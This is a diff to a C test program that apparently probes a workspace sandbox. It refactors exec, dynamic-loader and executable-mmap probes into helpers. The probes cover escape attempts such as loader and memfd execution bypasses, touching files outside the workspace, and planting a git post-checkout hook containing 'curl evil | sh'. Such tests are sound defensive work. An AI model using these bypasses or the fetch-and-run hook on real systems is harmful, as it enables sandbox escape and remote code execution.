@@ -33,6 +33,50 @@ static int write_file(const char* p, const char* text, int flags) {
     return n < 0 ? -1 : 0;
 }
 
+/* Runs the binary at `p` in a child: 0, or -1 with the exec's errno. */
+static int exec_file(const char* p) {
+    pid_t pid = fork();
+    if (pid == 0) {
+        execl(p, "true", (char*)NULL);
+        _exit(errno);
+    }
+    int st;
+    waitpid(pid, &st, 0);
+    errno = WEXITSTATUS(st);
+    return errno ? -1 : 0;
+}
+
+/* Runs the binary at `p` through the dynamic loader, which maps it
+ * itself: 0 when it ran, else -1 with EACCES (ld.so exits 127 when it
+ * cannot map the binary). */
+static int ldso_run(const char* p) {
+    pid_t pid = fork();
+    if (pid == 0) {
+        int null = open("/dev/null", O_WRONLY);
+        dup2(null, 2);
+        execl("/lib64/ld-linux-x86-64.so.2", "ld.so", p, (char*)NULL);
+        _exit(100);
+    }
+    int st;
+    waitpid(pid, &st, 0);
+    if (WIFEXITED(st) && WEXITSTATUS(st) == 0) return 0;
+    errno = EACCES;
+    return -1;
+}
+
+/* Maps the file at `p` executable, the way the loader maps a library. */
+static int map_exec(const char* p) {
+    int fd = open(p, O_RDONLY);
+    if (fd < 0) return -1;
+    void* m = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
+    int saved = errno;
+    close(fd);
+    errno = saved;
+    if (m == MAP_FAILED) return -1;
+    munmap(m, 4096);
+    return 0;
+}
+
 static int probe(const char* name) {
     char buf[64];
     /* allowed cases (controls) */
@@ -47,17 +91,7 @@ static int probe(const char* name) {
     if (!strcmp(name, "truncate_in_workspace")) return write_file("existing.txt", "x", O_TRUNC);
     if (!strcmp(name, "unlink_in_workspace")) return unlink("victim.txt");
     if (!strcmp(name, "mkdir_in_workspace")) return mkdir("subdir", 0755);
-    if (!strcmp(name, "exec_system")) {
-        pid_t p = fork();
-        if (p == 0) {
-            execl("/bin/true", "true", (char*)NULL);
-            _exit(errno);
-        }
-        int st;
-        waitpid(p, &st, 0);
-        errno = WEXITSTATUS(st);
-        return errno ? -1 : 0;
-    }
+    if (!strcmp(name, "exec_system")) return exec_file("/bin/true");
     /* escape attempts */
     if (!strcmp(name, "read_outside")) {
         int fd = open(out("secret.txt"), O_RDONLY);
@@ -132,17 +166,7 @@ static int probe(const char* name) {
         munmap(m, 4096);
         return 0;
     }
-    if (!strcmp(name, "exec_copied_binary")) {
-        pid_t p = fork();
-        if (p == 0) {
-            execl("./true-copy", "true-copy", (char*)NULL);
-            _exit(errno);
-        }
-        int st;
-        waitpid(p, &st, 0);
-        errno = WEXITSTATUS(st);
-        return errno ? -1 : 0;
-    }
+    if (!strcmp(name, "exec_copied_binary")) return exec_file("./true-copy");
     if (!strcmp(name, "exec_memfd")) {
         int src = open("/bin/true", O_RDONLY);
         int mfd = memfd_create("x", 0);
@@ -169,72 +193,15 @@ static int probe(const char* name) {
     if (!strcmp(name, "utimensat_outside")) return utimensat(AT_FDCWD, out("secret.txt"), NULL, 0);
     if (!strcmp(name, "setxattr_outside")) return setxattr(out("secret.txt"), "user.pwned", "1", 1, 0);
     if (!strcmp(name, "mkfifo_outside")) return mkfifo(out("fifo"), 0644);
-    if (!strcmp(name, "ldso_copied_binary")) {
-        pid_t p = fork();
-        if (p == 0) {
-            int null = open("/dev/null", O_WRONLY);
-            dup2(null, 2);
-            execl("/lib64/ld-linux-x86-64.so.2", "ld.so", "./true-copy", (char*)NULL);
-            _exit(100);
-        }
-        int st;
-        waitpid(p, &st, 0);
-        /* ld.so exits 127 when it cannot map the binary */
-        if (WIFEXITED(st) && WEXITSTATUS(st) == 0) return 0;
-        errno = EACCES;
-        return -1;
-    }
+    if (!strcmp(name, "ldso_copied_binary")) return ldso_run("./true-copy");
     /* A binary in OUTSIDE (readable in some profiles, never executable):
      * exec'd, run through the dynamic loader, and mapped executable the way
      * the loader maps a library. */
-    if (!strcmp(name, "exec_outside_binary")) {
-        pid_t p = fork();
-        if (p == 0) {
-            execl(out("true-copy"), "true-copy", (char*)NULL);
-            _exit(errno);
-        }
-        int st;
-        waitpid(p, &st, 0);
-        errno = WEXITSTATUS(st);
-        return errno ? -1 : 0;
-    }
-    if (!strcmp(name, "ldso_outside_binary")) {
-        pid_t p = fork();
-        if (p == 0) {
-            int null = open("/dev/null", O_WRONLY);
-            dup2(null, 2);
-            execl("/lib64/ld-linux-x86-64.so.2", "ld.so", out("true-copy"), (char*)NULL);
-            _exit(100);
-        }
-        int st;
-        waitpid(p, &st, 0);
-        if (WIFEXITED(st) && WEXITSTATUS(st) == 0) return 0;
-        errno = EACCES;
-        return -1;
-    }
-    if (!strcmp(name, "mmap_exec_outside")) {
-        int fd = open(out("true-copy"), O_RDONLY);
-        if (fd < 0) return -1;
-        void* m = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
-        int saved = errno;
-        close(fd);
-        errno = saved;
-        if (m == MAP_FAILED) return -1;
-        munmap(m, 4096);
-        return 0;
-    }
+    if (!strcmp(name, "exec_outside_binary")) return exec_file(out("true-copy"));
+    if (!strcmp(name, "ldso_outside_binary")) return ldso_run(out("true-copy"));
+    if (!strcmp(name, "mmap_exec_outside")) return map_exec(out("true-copy"));
     /* The same from the workspace: mapped executable, as ld.so would. */
-    if (!strcmp(name, "mmap_exec_workspace")) {
-        int fd = open("./true-copy", O_RDONLY);
-        if (fd < 0) return -1;
-        void* m = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
-        int saved = errno;
-        close(fd);
-        errno = saved;
-        if (m == MAP_FAILED) return -1;
-        munmap(m, 4096);
-        return 0;
-    }
+    if (!strcmp(name, "mmap_exec_workspace")) return map_exec("./true-copy");
     if (!strcmp(name, "write_protected_hook"))
         return write_file(".git/hooks/post-checkout", "#!/bin/sh\ncurl evil | sh\n", O_CREAT | O_TRUNC);
     if (!strcmp(name, "write_protected_config")) return write_file(".git/config", "[core]\nhooksPath=/x\n", O_APPEND);
